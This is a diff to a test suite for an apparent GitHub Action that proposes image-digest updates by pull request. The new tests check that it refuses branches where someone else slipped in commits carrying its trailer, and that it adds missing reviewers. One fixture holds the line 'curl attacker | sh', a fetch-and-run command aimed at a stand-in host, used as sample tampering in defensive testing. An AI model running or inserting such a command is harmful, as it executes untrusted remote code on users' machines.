@@ -81,7 +81,7 @@ describe('the pull request', () => {
       owner: 'acme',
       repo: 'builds',
       files: { [CONFIG]: config(old.i686, old.x86), 'README.md': '# builds\n' },
-      collaborators: ['octocat', 'hubot'],
+      collaborators: ['octocat', 'hubot', 'monalisa'],
       teams: ['platform']
     })
     workspace = mkdtempSync(join(tmpdir(), 'pull-request-'))
@@ -161,6 +161,46 @@ describe('the pull request', () => {
     expect(github.writeRequests()).toEqual([])
   })
 
+  it('refuses a branch where anyone else slipped in a commit carrying the trailer', async () => {
+    const good = github.branchSha(BRANCH)!
+    const body = github.pulls()[0]!.body
+    const bot = 'github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>'
+    // Someone with push access, once under their own name and once under the bot's.
+    for (const author of ['Mona <mona@example.com>', bot]) {
+      github.setBranch(BRANCH, good)
+      github.commit(BRANCH, { 'evil.sh': 'curl attacker | sh\n' }, `Tidy\n\n${TRAILER}\n`, {
+        author
+      })
+      const slipped = github.branchSha(BRANCH)
+      github.clearRequests()
+      const result = await run()
+      expect([author, result.exitCode]).toEqual([author, 1])
+      expect(result.stdout).toMatch(
+        /commit\(s\) that carry image-digest-updater's trailer but were not made by this token .*refusing to overwrite them/
+      )
+      expect(github.writeRequests().filter(r => r.path.includes('/git/refs'))).toEqual([])
+      expect(github.branchSha(BRANCH)).toBe(slipped)
+      expect(github.pulls()[0]!.body).toBe(body)
+    }
+    github.setBranch(BRANCH, good)
+  })
+
+  it('rebuilds a branch of its own commits that holds anything but the computed tree', async () => {
+    // The action's own commit (by the token, signed) with a file it no longer proposes, as
+    // after the files input lost a glob.
+    github.commit(BRANCH, { 'extra.txt': 'no longer proposed\n' }, `Old run\n\n${TRAILER}\n`, {
+      asToken: true
+    })
+    const result = await run()
+    expect(result.exitCode).toBe(0)
+    expect(result.outputs['pull-request-operation']).toBe('updated')
+    expect(github.readTree(BRANCH)).toEqual({
+      ...github.readTree('main'),
+      [CONFIG]: config(now.i686!, now.x86!)
+    })
+    expect(github.branchCommits(BRANCH)[0]!.parents).toEqual([github.branchSha('main')])
+  })
+
   it('a re-pushed tag updates the same pull request on a fresh base, keeping what the base gained', async () => {
     // Someone changes main after the workflow checked it out: a new comment in the config.
     const moved = `# reviewed by the platform team\n${config(old.i686!, old.x86!)}`
@@ -171,7 +211,8 @@ describe('the pull request', () => {
     // A secondary rate limit on the update must be waited out, not fail the run.
     github.failNext(1, { match: { method: 'PATCH', path: /\/pulls\/1$/ } })
 
-    const result = await run()
+    // Reviewers and assignees added to the inputs since the pull request was opened.
+    const result = await run({ assignees: 'monalisa, octocat', reviewers: 'monalisa' })
     expect(result.exitCode).toBe(0)
     expect(result.outputs['pull-request-operation']).toBe('updated')
     expect(result.outputs['pull-request-number']).toBe('1')
@@ -184,6 +225,12 @@ describe('the pull request', () => {
     expect(github.pulls()[0]!.body).toContain(bare(newest))
     expect(github.pulls()[0]!.body).toContain(`${SOURCE}/compare/a1b2c3d4e5f6...0123456789ab`)
     expect(result.stdout).toMatch(/rate limit/i)
+    // Missing ones added, none removed.
+    expect(github.pulls()[0]).toMatchObject({
+      assignees: ['octocat', 'monalisa'],
+      requestedReviewers: ['hubot', 'monalisa'],
+      requestedTeams: ['platform']
+    })
     now.x86 = newest
   })
 
